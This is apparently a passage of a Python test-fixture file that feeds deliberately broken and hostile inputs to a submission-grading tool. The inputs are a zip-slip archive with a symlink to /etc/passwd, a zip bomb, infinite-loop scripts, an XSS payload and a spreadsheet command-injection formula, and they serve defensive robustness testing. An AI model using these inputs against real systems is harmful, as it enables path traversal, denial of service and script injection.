add("unreadable-script", "broken", raw=b"\xff\xfe\x00def", suffix=".py")
add("script-exits", "broken", raw=b"def double(x):\n    return 2 * x\nraise SystemExit(0)\n", suffix=".py", expect=2.0)
add("script-main-guard", "broken", raw=b"def double(x):\n    return 2 * x\nif __name__ == '__main__':\n    while True: pass\n",
    suffix=".py", expect=2.0)  # fmt: skip
add("script-percent", "broken", raw=b'# %% tags=["setup"]\nimport torch\n# %% answer="90.1"\ndef double(x):\n    return 2 * x\n'
    b'# %% check="90.1"\nwhile True: pass\n# %%\nwhile True: pass\n', suffix=".py", expect=2.0)  # fmt: skip


def _zip(members: dict[str, bytes], link: str = "") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
        if link:
            info = zipfile.ZipInfo("link.ipynb")
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, link)
    return buffer.getvalue()


def _sparse(path: Path, size: int) -> None:
    with open(path, "wb") as file:
        file.truncate(size)


add("zip-slip", "broken", raw=_zip({"../../escaped.ipynb": b"{}", "/etc/escaped.ipynb": b"{}", "in/a.ipynb": cells(A1)}, "/etc/passwd"),
    suffix=".zip", expect=2.0)  # fmt: skip
add("zip-bomb", "broken", raw=_zip({f"{i}.ipynb": b"\0" * (60 << 20) for i in range(10)}), suffix=".zip")
add("zip-torn", "broken", raw=_zip({"a.ipynb": cells(A1)})[:-30], suffix=".zip")
add(
    "markup",
    "broken",
    answers={"90.1": "def double(x):\n    raise ValueError('<script>alert(1)</script>\\x1b[31m\\u202e ]]> & \"')\n"},
)
add("=cmd()|'x'!A0", "broken", right=("90.1",), expect=2.0)
add("<img src=x onerror=alert(1)>", "broken", right=("90.1",), expect=2.0)
